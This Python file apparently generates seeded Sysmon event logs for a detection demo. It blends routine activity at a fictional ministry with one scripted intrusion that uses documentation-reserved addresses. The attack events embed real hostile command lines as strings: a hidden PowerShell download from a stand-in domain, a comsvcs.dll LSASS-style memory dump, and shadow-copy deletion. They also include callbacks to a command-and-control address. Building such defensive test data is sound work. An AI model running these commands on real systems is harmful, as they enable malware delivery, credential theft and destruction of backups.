"""The recorded attack that the demo plays: generated from a seed, so that it is the same each time.

Addresses and names are those reserved for documentation (RFC 5737, RFC 2606). An ordinary morning at
a ministry, in Sysmon's and Windows' own event shapes, and inside it one machine where a false invoice
opens PowerShell, downloads a program, talks to its master, reads credentials and deletes backups.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

MASTER = "203.0.113.77"
DOMAIN = "facturas-sat.example"
PROGRAM = "5d6c0f7be4f3a9f0c1f4b1d9a6e8c7b2a1908f7e6d5c4b3a29181706f5e4d3c2"
VICTIM = "FINANZAS-07.hacienda.example"

Event = dict[str, Any]

_SYSMON = "Microsoft-Windows-Sysmon/Operational"
_HOSTS = ("FINANZAS-07", "RECEPCION-01", "ARCHIVO-02", "SRV-CORREO", "SRV-ARCHIVOS")
_PROGRAMS = (
    (r"C:\Windows\explorer.exe", r"C:\Program Files\Mozilla Firefox\firefox.exe", "firefox.exe"),
    (r"C:\Windows\explorer.exe", r"C:\Program Files\LibreOffice\program\scalc.exe", "scalc.exe --calc"),
    (r"C:\Windows\System32\services.exe", r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
)
_SITES = ("correo.hacienda.example", "intranet.hacienda.example", "noticias.example", "banco.example")
_OFFICE = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_DROPPED = r"C:\Users\Public\factura_viewer.exe"


def ordinary_morning(start: datetime, count: int, seed: int = 503) -> Iterator[Event]:
    """``count`` events of daily work, spread over the six hours from ``start``."""
    dice = random.Random(seed)  # noqa: S311 - a recorded morning, not a secret
    moments = sorted(dice.uniform(0, 6 * 3600) for _ in range(count))
    for moment in moments:
        when = start + timedelta(seconds=moment)
        host = f"{dice.choice(_HOSTS)}.hacienda.example"
        kind = dice.random()
        if kind < 0.4:
            parent, image, line = dice.choice(_PROGRAMS)
            yield process(when, host, parent, image, line, digest=f"{dice.getrandbits(256):064x}")
        elif kind < 0.7:
            address = f"198.51.100.{dice.randrange(1, 200)}"
            yield connection(when, host, dice.choice(_PROGRAMS)[1], address, 443)
        else:
            yield lookup(when, host, dice.choice(_PROGRAMS)[1], dice.choice(_SITES))


def attack(start: datetime) -> Iterator[Event]:
    """The attack, step by step, from the opened invoice to the deleted copies."""

    def at(seconds: float) -> datetime:
        return start + timedelta(seconds=seconds)

    download = f"powershell -nop -w hidden IWR http://{DOMAIN}/f/visor.exe -OutFile {_DROPPED}"
    dump = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\Users\Public\l.dmp full"
    yield process(at(0), VICTIM, _OFFICE, _POWERSHELL, download)
    yield lookup(at(1.2), VICTIM, _POWERSHELL, DOMAIN)
    yield connection(at(1.4), VICTIM, _POWERSHELL, "203.0.113.20", 80, DOMAIN)
    yield process(at(6), VICTIM, _POWERSHELL, _DROPPED, _DROPPED, digest=PROGRAM)
    yield connection(at(7), VICTIM, _DROPPED, MASTER, 443)
    yield process(at(95), VICTIM, _DROPPED, r"C:\Windows\System32\rundll32.exe", dump)
    yield connection(at(240), VICTIM, _DROPPED, MASTER, 443)
    yield process(
        at(600), VICTIM, _DROPPED, r"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet"
    )
    yield connection(at(605), VICTIM, _DROPPED, MASTER, 443)


def call_home(when: datetime, host: str) -> Event:
    """One connection to the attack's master: what the next victim's machine would show."""
    return connection(when, host, _DROPPED, MASTER, 443)


def process(when: datetime, host: str, parent: str, image: str, line: str, digest: str = "0" * 64) -> Event:
    """Sysmon 1, process creation."""
    return _sysmon(when, host, 1) | {
        "Image": image,
        "ParentImage": parent,
        "CommandLine": line,
        "Hashes": f"SHA256={digest.upper()}",
        "User": r"HACIENDA\caja7",
    }


def connection(when: datetime, host: str, image: str, address: str, port: int, name: str = "") -> Event:
    """Sysmon 3, network connection."""
    return _sysmon(when, host, 3) | {
        "Image": image,
        "DestinationIp": address,
        "DestinationPort": str(port),
        "DestinationHostname": name,
        "Protocol": "tcp",
        "Initiated": "true",
    }


def lookup(when: datetime, host: str, image: str, name: str) -> Event:
    """Sysmon 22, name lookup."""
    return _sysmon(when, host, 22) | {"Image": image, "QueryName": name, "QueryStatus": "0"}


def _sysmon(when: datetime, host: str, number: int) -> Event:
    text = f"{when:%Y-%m-%d %H:%M:%S}.{when.microsecond // 1000:03d}"
    return {
        "EventID": number,
        "Channel": _SYSMON,
        "SourceName": "Microsoft-Windows-Sysmon",
        "Hostname": host,
        "UtcTime": text,
        "@timestamp": text.replace(" ", "T") + "Z",
    }
